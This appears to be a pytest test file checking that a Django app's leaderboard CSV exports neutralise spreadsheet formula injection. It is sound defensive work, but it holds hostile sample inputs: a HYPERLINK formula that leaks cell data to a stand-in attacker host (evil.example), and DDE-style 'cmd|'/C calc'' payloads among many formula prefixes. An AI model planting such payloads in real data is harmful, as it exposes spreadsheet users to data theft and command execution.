"""Every CSV the owner can download neutralises spreadsheet formulas planted in imported names."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from ratings.services.leaderboard import leaderboard_recompute
from ratings.tests.simulate import make_simulated_study
from tasks.models import System

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("url_name", ["api-leaderboard", "api-leaderboard-matrices", "api-leaderboard-elo"])
def test_leaderboard_csv_cells_never_start_a_formula(client, url_name):
    sim = make_simulated_study(n_prompts=4, votes_per_comparison=3, n_raters=4)
    System.objects.filter(study=sim.study, name="alpha").update(name=EVIL)
    leaderboard_recompute(study_id=sim.study.id)
    client.force_login(sim.study.owner)
    response = client.get(reverse(url_name, args=[sim.study.slug]), {"format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(EVIL in cell for cell in cells), "the system name should be in the CSV"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


FORMULA_PREFIXES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width ＝
    "\uff0bcmd",
    "\uff0dcmd",
    "\uff20SUM(A1)",
    "|calc'!A0",
    "\uff5ccalc",
    "\ufe661+1",  # small ﹦
    "\u22121+1",  # minus sign
    "  =1+1",  # leading spaces
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # BOM
]


@pytest.mark.parametrize("value", FORMULA_PREFIXES)
def test_csv_safe_neutralises_every_prefix_a_spreadsheet_evaluates(value):
    from ratings.services.exports import csv_safe

    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["hello", "Model 7", "a=b", "1-2", "中文", "", "x|y", "'=already"])
def test_csv_safe_leaves_text_that_is_no_formula_alone(value):
    from ratings.services.exports import csv_safe

    assert csv_safe(value) == value


def test_leaderboard_csv_neutralises_a_line_feed_and_full_width_prefix(client):
    sim = make_simulated_study(n_prompts=4, votes_per_comparison=3, n_raters=4)
    names = list(System.objects.filter(study=sim.study).order_by("name").values_list("pk", flat=True))
    System.objects.filter(pk=names[0]).update(name="\n=1+1")
    System.objects.filter(pk=names[1]).update(name="\uff1dcmd|'/C calc'!A0")
    leaderboard_recompute(study_id=sim.study.id)
    client.force_login(sim.study.owner)
    response = client.get(reverse("api-leaderboard", args=[sim.study.slug]), {"format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'\n=1+1" in cells and "'\uff1dcmd|'/C calc'!A0" in cells, cells
